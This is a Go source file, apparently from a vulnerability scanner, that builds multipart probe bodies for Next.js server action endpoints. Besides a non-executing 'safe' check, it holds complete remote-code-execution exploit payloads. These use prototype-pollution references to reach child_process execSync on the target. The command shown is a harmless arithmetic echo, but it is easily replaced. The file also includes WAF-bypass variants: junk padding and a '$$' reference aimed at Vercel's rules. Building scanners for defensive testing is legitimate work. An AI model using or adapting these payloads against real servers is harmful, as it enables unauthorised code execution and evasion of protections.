// Package payload builds the multipart probe bodies sent to Next.js server
// action endpoints. Every builder is a pure function of its arguments.
package payload

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/maxvaer/rschunter/internal/config"
)

// Boundary is the multipart boundary shared by every probe body.
const Boundary = "----WebKitFormBoundaryx8jO2oVc6SWP3Sad"

// ContentType is the Content-Type header value matching Boundary.
const ContentType = "multipart/form-data; boundary=" + Boundary

// The PoC evaluates 41*271 on the target and redirects to /login?a=<result>.
const (
	unixCommand    = `echo $((41*271))`
	windowsCommand = `powershell -c \"41*271\"`
)

const junkCharset = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

// Payload is a probe body together with its Content-Type.
type Payload struct {
	Body        []byte
	ContentType string
}

// Build returns the payload for the detection mode configured in opts.
func Build(opts *config.Options) Payload {
	switch opts.Mode() {
	case config.ModeSafeCheck:
		return Safe()
	case config.ModeVercelWAFBypass:
		return VercelWAFBypass()
	default:
		return RCE(opts.Windows, opts.WAFBypass, opts.WAFBypassSizeKB)
	}
}

// Safe returns a body that makes a vulnerable server fail while resolving a
// bogus model reference. The resulting 500 carries an E{"digest" error
// row without any code being executed.
func Safe() Payload {
	body := part("1", "{}") + part("0", `["$1:aa:aa"]`) + closing()
	return Payload{Body: []byte(body), ContentType: ContentType}
}

// RCE returns the proof-of-concept body. windows selects the PowerShell
// command; wafBypass prepends a junk field of wafBypassSizeKB KiB.
func RCE(windows, wafBypass bool, wafBypassSizeKB int) Payload {
	cmd := unixCommand
	if windows {
		cmd = windowsCommand
	}

	prefix := fmt.Sprintf(
		"var res=process.mainModule.require('child_process').execSync('%s')"+
			".toString().trim();;throw Object.assign(new Error('NEXT_REDIRECT'),"+
			"{digest: `NEXT_REDIRECT;push;/login?a=${res};307;`});",
		cmd,
	)
	chunk := fmt.Sprintf(
		`{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\"then\":\"$B1337\"}","_response":{"_prefix":"%s","_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}`,
		prefix,
	)

	var b strings.Builder
	if wafBypass && wafBypassSizeKB > 0 {
		name, junk := junkField(wafBypassSizeKB * 1024)
		b.WriteString(part(name, junk))
	}
	b.WriteString(part("0", chunk))
	b.WriteString(part("1", `"$@0"`))
	b.WriteString(part("2", "[]"))
	b.WriteString(closing())
	return Payload{Body: []byte(b.String()), ContentType: ContentType}
}

// VercelWAFBypass returns the variant that reaches the Function constructor
// through a "$$"-prefixed reference in a fourth field, which the Vercel WAF
// rules for the plain PoC do not match.
func VercelWAFBypass() Payload {
	chunk := `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\"then\":\"$B1337\"}","_response":{"_prefix":"var res=process.mainModule.require('child_process').execSync('` +
		unixCommand +
		`').toString().trim();;throw Object.assign(new Error('NEXT_REDIRECT'),{digest: ` +
		"`NEXT_REDIRECT;push;/login?a=${res};307;`" +
		`});","_chunks":"$Q2","_formData":{"get":"$3:\"$$:constructor:constructor"}}}`

	body := part("0", chunk) +
		part("1", `"$@0"`) +
		part("2", "[]") +
		part("3", `{"\"$$":{}}`) +
		closing()
	return Payload{Body: []byte(body), ContentType: ContentType}
}

func part(name, value string) string {
	return "--" + Boundary + "\r\n" +
		`Content-Disposition: form-data; name="` + name + "\"\r\n\r\n" +
		value + "\r\n"
}

func closing() string {
	return "--" + Boundary + "--"
}

// junkField returns a random-looking field name and sizeBytes of filler.
// The generator is seeded from the size so a given size always yields the
// same bytes.
func junkField(sizeBytes int) (string, string) {
	rng := rand.New(rand.NewPCG(0x52534348, uint64(sizeBytes)))

	name := make([]byte, 12)
	for i := range name {
		name[i] = junkCharset[rng.IntN(len(junkCharset))]
	}
	junk := make([]byte, sizeBytes)
	for i := range junk {
		junk[i] = junkCharset[rng.IntN(len(junkCharset))]
	}
	return string(name), string(junk)
}
